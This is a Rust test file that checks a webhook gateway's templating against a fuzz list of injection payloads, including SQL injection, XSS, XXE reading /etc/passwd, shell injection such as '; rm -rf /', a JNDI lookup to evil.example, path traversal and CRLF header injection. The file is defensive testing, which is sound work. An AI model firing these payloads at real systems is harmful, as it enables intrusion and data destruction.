//! Hostile values in every place that a template fills, and hostile texts in every field that a template can be.

use super::*;
use crate::gateway::firing::Templates;
use crate::gateway::webhook::GatewayInput;

/// What has broken other systems: SQL, markup, shells, templates, URLs, headers, JSON, encodings, length.
const SEEDS: [&str; 58] = [
    "'; DROP TABLE users; --",
    "' OR '1'='1",
    "1; SELECT pg_advisory_lock(1)",
    "\"; DELETE FROM x; --",
    "$$;COPY x TO PROGRAM 'id'$$",
    "UNION SELECT NULL,NULL",
    "/**/OR/**/1=1",
    "\\'; --",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "]]><!ENTITY x SYSTEM \"file:///etc/passwd\">",
    "&xxe;",
    "$(id)",
    "`id`",
    "| cat /etc/passwd",
    "; rm -rf /",
    "{{payload.secret}}",
    "{{ ATHENA.public.users.password }}",
    "{{{{payload.secret}}}}",
    "}}{{payload.secret}}{{",
    "${jndi:ldap://evil.example/a}",
    "{% include 'x' %}",
    "<%= 7*7 %>",
    "#{7*7}",
    "%{(#a)}",
    "{{",
    "}}",
    "\r\nX-Admin: 1",
    "\nX-Admin: 1",
    "\rX-Admin: 1",
    "\r\n\r\n<html>",
    "\u{0}",
    "a\u{0}b",
    "\u{85}\u{2028}\u{2029}",
    "\u{7f}\u{1b}[2J",
    "../../../etc/passwd",
    "..",
    ".",
    "..%2f..%2f",
    "%2e%2e",
    "..\\..\\",
    "//evil.example/",
    "@evil.example",
    ":80@evil.example/",
    "https://evil.example/",
    "javascript:alert(1)",
    "?admin=1",
    "#frag",
    "&a=b",
    "%00",
    "%0d%0aX-Admin:%201",
    "\",\"admin\":true,\"x\":\"",
    "\"}",
    "\\",
    "\\\"",
    "\\u0022",
    "\u{202e}gnp.exe",
    "\u{feff}",
];

/// Each seed alone, twice, and with something around it; and what is long or deep.
fn inputs() -> Vec<String> {
    let mut all: Vec<String> = SEEDS.iter().map(|seed| (*seed).to_owned()).collect();
    all.extend(SEEDS.iter().map(|seed| seed.repeat(2)));
    all.extend(SEEDS.iter().map(|seed| format!("a{seed}b")));
    all.extend(SEEDS.iter().map(|seed| format!("\"{seed}\"")));
    all.extend([
        String::new(),
        " ".to_owned(),
        "a".repeat(4096),
        "é".repeat(2048),
        "[".repeat(4000),
        "{\"a\":".repeat(800),
        "{{".repeat(2000),
        "\"".repeat(4000),
        "\\".repeat(4000),
        "\r\n".repeat(2000),
    ]);
    assert!(all.len() >= 200);
    all
}

fn templates(fields: Value) -> Templates {
    let mut all = json!({
        "name": "n", "route_key": "gateway_insert", "http_method": "POST",
        "url_template": "https://a.example/x/{{payload.v}}/y?q={{payload.v}}#{{payload.v}}",
        "headers_templates": {"x-v": "{{payload.v}}", "authorization": "Bearer {{payload.v}}"},
        "body_template": r#"{"in":"{{payload.v}}","out":{{payload.v}},"key":{"{{payload.v}}":1}}"#,
        "state_key_template": "{{payload.v}}", "idempotency_template": "{{payload.v}}",
    });
    all.as_object_mut().unwrap().extend(fields.as_object().unwrap().clone());
    Templates::of(&GatewayInput::parse(&all).unwrap().create(1).unwrap().gateway.unwrap()).unwrap()
}

fn context(value: &str) -> Value {
    json!({"payload": {"v": value, "secret": "TOP-SECRET"}, "response": null, "headers": {"v": value}})
}

#[test]
fn a_hostile_value_is_a_value_in_every_place() {
    let plain = templates(json!({}));
    let found = Found::default();
    for input in inputs() {
        let context = context(&input);
        let json = context.to_string();
        let made = match plain.request(&json, &context, &found) {
            Ok(made) => made,
            Err(error) => {
                // Refused: it is the directory itself or the one above, or too long for a URL.
                assert!(input == "." || input == ".." || input.len() > 200, "{input:?}: {error}");
                continue;
            }
        };
        assert_eq!(made.url.host_str(), Some("a.example"), "{input:?}");
        assert_eq!(made.url.port_or_known_default(), Some(443));
        let segments: Vec<&str> = made.url.path_segments().unwrap().collect();
        assert_eq!((segments.len(), segments[0], segments[2]), (3, "x", "y"), "{input:?}");
        let query: Vec<_> = made.url.query_pairs().into_owned().collect();
        assert_eq!(query, [("q".to_owned(), input.clone())], "{input:?}");
        for (_, value) in &made.headers {
            assert!(!value.chars().any(char::is_control), "{input:?}");
        }
        assert_eq!(made.headers.len(), 3, "{input:?}: {:?}", made.headers);
        let body: Value = serde_json::from_slice(&made.body).unwrap();
        assert_eq!(body, json!({"in": input, "out": input, "key": {input.as_str(): 1}}));
        assert!(!String::from_utf8_lossy(&made.body).contains("TOP-SECRET"), "{input:?}");
    }
}

#[test]
fn a_hostile_value_is_a_value_in_bodies_that_are_no_json() {
    for input in inputs() {
        let context = context(&input);
        let found = Found::default();
        let body = |template: &str, content_type: &str| {
            let body = BodyTemplate::parse(template, Some(content_type)).unwrap();
            body.render(Values { context: &context, found: &found }).unwrap()
        };
        let form = body("a={{payload.v}}&b=1", "application/x-www-form-urlencoded");
        let fields: Vec<_> = ::url::form_urlencoded::parse(form.as_bytes()).into_owned().collect();
        assert_eq!(fields, [("a".to_owned(), input.clone()), ("b".to_owned(), "1".to_owned())]);
        let xml = body("<a b=\"{{payload.v}}\">{{payload.v}}</a>", "application/xml");
        assert_eq!((xml.matches('<').count(), xml.matches('>').count(), xml.matches('"').count()), (2, 2, 2), "{xml}");
        assert_eq!(body("v: {{payload.v}}", "text/plain"), format!("v: {input}"));
    }
}

#[test]
fn a_hostile_value_that_was_looked_up_is_no_different() {
    let own = templates(json!({
        "url_template": "https://a.example/x/{{ ATHENA.public.users.v }}/y",
        "headers_templates": {"x-v": "{{ ATHENA.public.users.v }}"},
        "body_template": r#"{"in":"{{ ATHENA.public.users.v }}","out":{{ ATHENA.public.users.v }}}"#,
        "lookup_keys": {"public.users": {"key_source": "header:v"}},
    }));
    for input in inputs() {
        let context = context(&input);
        let lookups = own.lookups(&context);
        // The key goes to the database as a bound value: as it is, or not at all.
        assert!(lookups.iter().all(|lookup| lookup.key == json!(input)), "{input:?}");
        assert_eq!(lookups.is_empty(), input.is_empty() || input.len() >= 4096, "{input:?}");
        let mut found = Found::default();
        for lookup in &lookups {
            assert_eq!((lookup.table.as_str(), lookup.columns.as_slice()), ("users", ["v".to_owned()].as_slice()));
            found.put(lookup, "v", &json!(input));
        }
        let Ok(made) = own.request(&context.to_string(), &context, &found) else {
            assert!(input == "." || input == ".." || input.len() > 200, "{input:?}");
            continue;
        };
        assert_eq!(made.url.path_segments().unwrap().count(), 3, "{input:?}");
        assert!(!made.headers.iter().any(|(_, value)| value.chars().any(char::is_control)), "{input:?}");
        let body: Value = serde_json::from_slice(&made.body).unwrap();
        let out = if found.is_empty() { Value::Null } else { json!(input) };
        assert_eq!(body, json!({"in": if found.is_empty() { "" } else { &input }, "out": out}));
    }
}

#[test]
fn a_hostile_text_in_any_field_is_refused_by_name_or_harmless() {
    let context = context("v");
    let found = Found::default();
    let mut taken = 0;
    for input in inputs() {
        for (field, fields) in [
            ("name", json!({"name": input})),
            ("description", json!({"description": input})),
            ("route_key", json!({"route_key": input})),
            ("table_name", json!({"table_name": input})),
            ("http_method", json!({"http_method": input})),
            ("url_template", json!({"url_template": input})),
            ("url_template", json!({"url_template": format!("https://a.example/{input}")})),
            ("url_template", json!({"url_template": format!("https://{input}/")})),
            ("headers_templates", json!({"headers_templates": {"x-v": input}})),
            ("headers_templates", json!({"headers_templates": {input.as_str(): "v"}})),
            ("body_template", json!({"body_template": input})),
            ("body_template", json!({"body_template": format!("{{\"a\":\"{input}\"}}")})),
            ("slug", json!({"slug": input})),
            ("state_key_template", json!({"state_key_template": input})),
            ("idempotency_template", json!({"idempotency_template": input})),
            ("lookup_keys", json!({"lookup_keys": {input.as_str(): {"key_source": "header:v"}}})),
            ("lookup_keys", json!({"lookup_keys": {"a.b": {"key_source": input}}})),
            ("lookup_keys", json!({"lookup_keys": {"a.b": {"key_source": "header:v", "key_column": input}}})),
        ] {
            let mut all = json!({
                "name": "n", "route_key": "gateway_insert", "http_method": "POST",
                "url_template": "https://a.example/hook",
            });
            all.as_object_mut().unwrap().extend(fields.as_object().unwrap().clone());
            let spec = match GatewayInput::parse(&all).and_then(|given| given.create(1)) {
                Ok(spec) => spec.gateway.unwrap(),
                Err(error) => {
                    assert!(error.field.starts_with(field), "{fields}: {error}");
                    continue;
                }
            };
            taken += 1;
            let templates = Templates::of(&spec).unwrap();
            assert_eq!(templates.origin().scheme(), "https");
            if field != "url_template" {
                assert_eq!(templates.origin().host_str(), Some("a.example"));
            }
            let made = templates.request(&context.to_string(), &context, &found).unwrap();
            assert_eq!(made.url.origin(), templates.origin().origin());
            assert!(!made.headers.iter().any(|(_, value)| value.chars().any(char::is_control)), "{fields}");
            for (place, key) in &spec.lookup_keys {
                assert!(
                    place
                        .bytes()
                        .chain(key.key_column.bytes())
                        .all(|b| b.is_ascii_alphanumeric() || b"_.".contains(&b))
                );
            }
        }
    }
    assert!(taken > 200, "{taken}");
}
